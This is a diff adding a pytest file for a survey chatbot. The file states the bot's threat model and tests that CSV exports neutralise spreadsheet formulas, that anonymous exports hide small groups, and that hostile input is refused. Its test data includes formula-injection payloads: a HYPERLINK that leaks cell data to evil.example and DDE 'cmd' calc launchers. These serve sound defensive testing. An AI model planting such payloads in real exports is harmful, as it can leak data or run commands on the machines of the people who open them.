@@ -1,0 +1,177 @@
+"""The threat model, and the tests that hold the bot to it.
+
+Who attacks:
+
+- **a member**: someone the bot answers (any Slack workspace member, Matrix user or console user), who types
+  anything into any command, form or survey answer;
+- **a non-member in a shared room**: someone who reads the channel or room where others talk to the bot;
+- **anyone who can reach the HTTP port**: sends any request to ``/slack/events``, ``/healthz``, ``/metrics``.
+
+What they must never get, and where that is tested:
+
+- **anonymous answers linked to people**: tests/test_survey_anonymity.py (storage, replies, logs), here (the
+  anonymous export applies the per-question minimum group size and drops small groups of partial rows;
+  third-party loggers never print bodies or user ids), tests/matrix/ (private replies in shared rooms);
+- **other users' private replies**: tests/slack/test_commands.py and tests/slack/test_survey_form.py
+  (ephemeral and DM answers), tests/matrix/ (private replies go to the DM);
+- **secrets** (tokens, signing secret, database password, the survey key): tests/test_secrets.py,
+  tests/test_cli.py (a bad database URL is reported without the URL or a traceback);
+- **the ability to hang or crash the bot**: tests/test_hostile_input.py and tests/test_hostile_slack.py
+  (generated input), tests/test_recurrence.py (hostile schedules), here (deeply nested YAML, NUL characters,
+  megabytes of echoed text, terminal escape sequences, many first commands at once), tests/slack/
+  test_hostile_requests.py (malformed timestamps and payloads);
+- **spreadsheet formulas**: here (every cell of the CSV export read back with the csv module);
+- **forged actions**: tests/test_authorization.py (admin commands refused to others),
+  tests/slack/test_security.py (forged, stale and replayed requests), tests/slack/test_hostile_requests.py
+  (markup in user text never becomes a mention, broadcast or link; a slash command delivered twice runs once).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from datetime import UTC, datetime
+
+import pytest
+
+from handlers.core import Status
+from handlers.text import safe_text
+from tests.support.dialogue import Dialogue
+from tests.support.surveys import FULL_ANSWERS, open_survey, rows
+
+START = datetime(2027, 1, 10, 9, 0, tzinfo=UTC)
+FORMULAS = (
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
+PLAIN_NUMBER = re.compile(r"^-?\d+(?:[.,]\d+)?$")
+
+
+@pytest.fixture(autouse=True)
+def _january(bot: Dialogue) -> None:
+    bot.clock.set(START)
+
+
+def _cells(content: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+
+
+async def test_the_csv_export_has_no_formula_cell(bot: Dialogue) -> None:
+    questions = ", ".join(f"{{text: Say {n}, type: text, required: false}}" for n in range(1, 8))
+    made = await bot.say(f"survey import {{title: '=1+1 Links', questions: [{questions}]}}")
+    assert made.ok, made.text
+    survey_id = made.data["survey"]
+    assert (await bot.say(f"survey open {survey_id} to=alice,bob")).ok
+    answers = " ".join(f'{n}="{text}"' for n, text in enumerate(FORMULAS, 1))
+    assert (await bot.say(f"survey answer {survey_id} {answers} 7=-42", as_="bob")).ok
+    assert (await bot.say(f"survey close {survey_id}")).ok
+
+    export = await bot.say(f"survey export {survey_id}")
+
+    table = _cells(export.files()[0].content)
+    assert len(table) == 2, table
+    for cell in (c for row in table for c in row):
+        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+        assert not cell.startswith("-") or PLAIN_NUMBER.match(cell), cell
+    row = table[1]
+    assert "'=HYPERLINK" in row[2] and row[-1] == "-42"  # still readable: the text, and a plain number
+
+
+async def test_the_anonymous_export_hides_small_groups(bot: Dialogue) -> None:
+    survey_id = await open_survey(bot, "to=alice,bob,carol,dmitri anonymous")
+    for person in ("alice", "bob", "carol"):
+        assert (await bot.say(f"survey answer {survey_id} {FULL_ANSWERS}", as_=person)).ok
+    assert (await bot.say(f'survey answer {survey_id} 15="Only I said this"', as_="carol")).ok
+    assert (await bot.say(f'survey answer {survey_id} 6=3 2="Dmitri alone"', as_="dmitri")).ok
+    assert (await bot.say(f"survey close {survey_id}")).ok
+
+    export = await bot.say(f"survey export {survey_id}")
+
+    content = export.files()[0].content.decode("utf-8-sig")
+    table = _cells(export.files()[0].content)
+    assert len(table) == 4 and all(row[0] == "yes" for row in table[1:])  # the one partial row is left out
+    assert "Only I said this" not in content and "Dmitri alone" not in content
+    q15 = next(i for i, name in enumerate(table[0]) if name.startswith("Q15"))
+    assert [row[q15] for row in table[1:]] == [""] * 3
+    assert "hidden" in table[0][q15]
+    assert "partial" in export.text
+
+
+async def test_partial_rows_are_exported_when_they_are_a_group(bot: Dialogue) -> None:
+    people = ("alice", "bob", "carol", "dmitri", "erin", "frank")
+    survey_id = await open_survey(bot, "to=" + ",".join(people) + " anonymous")
+    for person in people[:3]:
+        assert (await bot.say(f"survey answer {survey_id} {FULL_ANSWERS}", as_=person)).ok
+    for person in people[3:]:
+        assert (await bot.say(f"survey answer {survey_id} 6=3", as_=person)).ok
+    assert (await bot.say(f"survey close {survey_id}")).ok
+
+    table = _cells((await bot.say(f"survey export {survey_id}")).files()[0].content)
+
+    assert sorted(row[0] for row in table[1:]) == ["no"] * 3 + ["yes"] * 3
+
+
+def test_safe_text_strips_controls_and_caps() -> None:
+    hostile = "a\x1b[2J\x1b]0;pwned\x07b\x00c\x7fd\u0085e\r\nf\tg"
+    assert safe_text(hostile) == "abcde\nf\tg"
+    assert safe_text("x" * 10_000, limit=300) == "x" * 299 + "…"
+    assert safe_text("line\nnext", keep_newlines=False) == "line next"
+
+
+async def test_echoed_text_is_capped_and_stripped(bot: Dialogue, caplog: pytest.LogCaptureFixture) -> None:
+    caplog.set_level("INFO")
+    escape = "\x1b]0;owned\x07\x1b[31m"
+    huge = "y" * 50_000
+
+    for line in (f"{escape}{huge}", f"activity 3B.3 nonsense{escape}{huge}", f"tz {huge}"):
+        reply = await bot.say(line)
+
+        assert reply.status is not Status.OK
+        assert len(reply.text) < 2_000, (line[:20], len(reply.text))
+        assert "\x1b" not in reply.text and "\x07" not in reply.text
+    logged = "\n".join(r.getMessage() for r in caplog.records)
+    assert len(logged) < 20_000 and "\x1b" not in logged
+
+
+async def test_a_nul_character_is_refused_and_changes_nothing(bot: Dialogue) -> None:
+    for line in (
+        "activity 3B.3 note before\x00after",
+        "survey import {title: 'A\x00B', questions: [{text: Q, type: text}]}",
+        'meeting new "Call\x00" rrule="FREQ=WEEKLY" start=2027-02-02 at=15:00 tz=Europe/Zurich',
+    ):
+        reply = await bot.say(line)
+        assert reply.status is Status.USAGE and "NUL" in reply.text, reply.text
+    activity = await bot.app.services.knowledge.activity("3B.3")
+    assert activity is not None and activity.notes == []
+    assert await rows(bot, "SELECT id FROM surveys") == []
+    assert await rows(bot, "SELECT id FROM meeting_series") == []
+
+
+@pytest.mark.parametrize(
+    "definition",
+    [
+        "{title: Deep, questions: " + "[" * 5_000 + "]" * 5_000 + "}",
+        "{title: Deep, questions: [" + "{a: " * 5_000 + "1" + "}" * 5_000 + "]}",
+        "title: Deep\nquestions:\n" + "- " * 5_000 + "x",
+    ],
+)
+async def test_a_deeply_nested_survey_import_gets_a_clear_reply(bot: Dialogue, definition: str) -> None:
+    reply = await bot.say(f"survey import {definition}")
+
+    assert reply.status is Status.USAGE, reply.text
+    assert "nested" in reply.text and "nothing was saved" in reply.text
+    assert await rows(bot, "SELECT id FROM surveys") == []
+
+
+async def test_a_huge_survey_import_gets_a_clear_reply(bot: Dialogue) -> None:
+    reply = await bot.say(
+        "survey import {title: Big, questions: [" + "{text: Question, type: text}, " * 20_000 + "]}"
+    )
+
+    assert reply.status is Status.USAGE and "too long" in reply.text, reply.text[:200]
+    assert await rows(bot, "SELECT id FROM surveys") == []
